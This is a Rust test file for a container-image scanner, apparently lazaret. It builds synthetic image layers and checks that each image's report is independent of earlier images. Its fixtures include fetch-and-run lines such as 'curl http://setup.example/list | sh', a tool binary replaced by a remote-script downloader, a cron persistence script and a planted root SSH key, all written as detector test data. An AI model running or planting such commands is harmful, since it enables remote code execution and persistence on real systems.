//! What a worker learned of the images before changes nothing of what it says of the next one.
#![allow(clippy::unwrap_used)]

use std::sync::LazyLock;

use lazaret_detect::{Pack, on_deep_stack, try_recipe};
use lazaret_recipe::Recipe;

static PACK: LazyLock<Pack> = LazyLock::new(|| Pack::load(&[], None).unwrap());

/// A distribution with a package manager, schedules, logins and things that no package brought.
const BASE: &str = r#"LAYER RUN install
FILE /var/lib/dpkg/status
    Package: cron
    Status: install ok installed
    Version: 3

    Package: tool
    Status: install ok installed
    Version: 1
FILE /var/lib/dpkg/info/cron.list
    /.
    /usr/sbin/cron
    /etc/cron.daily/cron
FILE /var/lib/dpkg/info/cron.md5sums
FILE /var/lib/dpkg/info/tool.list
    /.
    /usr/bin/tool
    /usr/share/base-files/profile
    /usr/share/tool/notes
    /etc/tool.conf
FILE /var/lib/dpkg/info/tool.md5sums
FILE /var/lib/dpkg/info/tool.postinst 0755
    #!/bin/sh
    cp /usr/share/base-files/profile /etc/profile
FILE /etc/os-release
    PRETTY_NAME="Example 1"
FILE /etc/passwd
    root:x:0:0:root:/root:/bin/sh
DIR /usr/bin
SYMLINK /bin -> usr/bin
ELF /usr/bin/sh 0755
    sh
ELF /usr/bin/tool 0755
    tool
ELF /usr/sbin/cron 0755
    cron
FILE /etc/cron.daily/cron 0755
    #!/bin/sh
    tool --tidy /var/cache
FILE /usr/share/tool/notes
    nothing of note
FILE /etc/tool.conf
    place=http://tool.example/
FILE /usr/share/base-files/profile
    umask 022
    PATH=/usr/bin
FILE /etc/profile
    umask 022
    PATH=/usr/bin
LAYER COPY base
FILE /usr/local/bin/setup 0755
    #!/bin/sh
    # by dm117@build7
    curl -s http://setup.example/list | sh
FILE /etc/profile.d/greet.sh
    wget -q http://greet.example/motd -O /tmp/motd
FILE /opt/lib/node_modules/left/package.json
    {"name": "left", "version": "1.0.0"}
FILE /opt/lib/node_modules/left/index.js
    #!/usr/bin/env node
    console.log("left")
FILE /opt/plain/index.js 0755
    #!/usr/bin/env node
    console.log("plain")
FILE /root/.ssh/authorized_keys
    ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcH kim@forge9
ENTRYPOINT ["/app/start"]
"#;

/// What stands on it: what leaves it alone, and every way to change it.
const UPPER: &[&str] = &[
    "LAYER COPY a\nFILE /app/start 0755\n    #!/bin/sh\n    exec tool serve\n",
    "LAYER COPY b\nFILE /app/start 0755\n    #!/bin/sh\n    /usr/local/bin/setup\n    exec cron -f\n",
    "LAYER COPY c\nFILE /app/start 0755\n    #!/bin/sh\n    . /opt/settings\n    exec tool\nFILE /opt/settings\n    PLACE=http://own.example/\n",
    "LAYER COPY d\nFILE /usr/bin/tool 0755\n    #!/bin/sh\n    curl http://other.example/ | sh\n",
    "LAYER RUN useradd\nFILE /etc/passwd\n    root:x:0:0:root:/root:/bin/sh\n    dm117:x:1000:1000::/home/dm117:/bin/sh\nFILE /home/dm117/.profile\n    umask 022\n    PATH=/usr/bin\n",
    "LAYER RUN rm\nWHITEOUT /usr/local/bin/setup\nWHITEOUT /etc/profile.d\n",
    "LAYER RUN rm\nWHITEOUT /opt/lib/node_modules/left/package.json\n",
    "LAYER RUN rm\nOPAQUE /var/lib/dpkg/info\nFILE /var/lib/dpkg/info/tool.list\n    /.\n    /opt/plain/index.js\n",
    "LAYER RUN install\nFILE /var/lib/dpkg/status\n    Package: tool\n    Status: install ok installed\n    Version: 2\nELF /usr/bin/tool 0755\n    tool 2\n",
    "LAYER COPY e\nFILE /usr/share/tool/notes\n    #!/bin/sh\n    # by kim@forge3\n    true\n",
    "LAYER COPY f\nFILE /opt/copy 0755\n    umask 022\n    PATH=/usr/bin\nHARDLINK /opt/second -> /usr/bin/tool\n",
    "LAYER COPY g\nFILE /opt/plain/package.json\n    {}\nFILE /opt/plain\n    a file where a folder was\n",
    "LAYER COPY h\nSYMLINK /etc/cron.daily -> /opt/daily\nFILE /opt/daily/own 0755\n    #!/bin/sh\n    curl http://daily.example/ | sh\n",
    "LAYER COPY i\nDIR /etc 0700\nDIR /usr/bin\nFILE /usr/bin/new 0755\n    #!/bin/sh\n    echo new\nFILE /etc/new.conf\n    a=b\n",
    "LAYER COPY j\nFILE /app/start 0755\n    #!/bin/sh\n    node /opt/lib/node_modules/left/index.js\n    node /opt/plain/index.js\n",
    "LAYER COPY k\nFILE /usr/share/base-files/profile\n    umask 077\nFILE /etc/skel/.profile\n    umask 022\n    PATH=/usr/bin\n",
    "LAYER COPY l\nFILE /opt/one\n    1\nLAYER COPY m\nWHITEOUT /opt/one\nFILE /app/start 0755\n    #!/bin/sh\n    tool\n",
];

/// The whole report, as it is sent.
fn told(text: &str) -> serde_json::Value {
    let recipe = Recipe::parse(text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    serde_json::to_value(try_recipe(&PACK, &recipe)).unwrap()
}

#[test]
fn an_image_is_told_as_by_itself_whatever_came_before() {
    let images: Vec<String> = UPPER.iter().map(|upper| format!("{BASE}{upper}")).collect();
    let alone: Vec<_> = images.iter().map(|image| told(image)).collect();
    for (number, image) in alone.iter().enumerate() {
        let others = alone.iter().filter(|other| other["inventory"] == image["inventory"]).count();
        assert_eq!(others, 1, "image {number} is not told apart, so it would prove nothing");
    }
    // Each one first, so that what is known of the base comes from it; then all in an order of its own.
    for first in 0..images.len() {
        let order: Vec<usize> =
            (0..2 * images.len()).map(|step| (first + step * (2 * first + 1)) % images.len()).collect();
        let seen = on_deep_stack(|| order.iter().map(|&at| told(&images[at])).collect::<Vec<_>>()).unwrap();
        for (at, seen) in order.iter().zip(seen) {
            assert!(seen == alone[*at], "image {at} after {order:?}:\n{}", difference(&alone[*at], &seen));
        }
    }
}

/// Where two reports differ first.
fn difference(a: &serde_json::Value, b: &serde_json::Value) -> String {
    match (a, b) {
        (serde_json::Value::Object(one), serde_json::Value::Object(other)) => {
            let key = one.keys().find(|key| one.get(*key) != other.get(*key));
            key.map_or_else(
                || "keys".to_owned(),
                |key| {
                    format!(
                        "{key} {}",
                        difference(&one[key], other.get(key).unwrap_or(&serde_json::Value::Null))
                    )
                },
            )
        }
        (serde_json::Value::Array(one), serde_json::Value::Array(other)) if one.len() == other.len() => {
            let at = (0..one.len()).find(|&at| one[at] != other[at]).unwrap_or_default();
            format!("{at} {}", difference(&one[at], &other[at]))
        }
        _ => format!("was\n{a}\nand is\n{b}"),
    }
}
